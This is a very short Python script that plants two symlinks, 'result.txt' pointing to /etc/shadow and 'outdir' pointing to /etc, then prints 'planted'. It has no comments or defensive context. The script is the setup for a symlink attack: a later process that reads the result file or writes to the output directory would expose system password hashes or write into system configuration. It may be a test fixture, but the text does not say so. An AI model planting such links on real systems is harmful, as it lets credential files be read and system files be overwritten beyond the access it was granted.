import os

os.symlink("/etc/shadow", "result.txt")
os.symlink("/etc", "outdir")
print("planted")
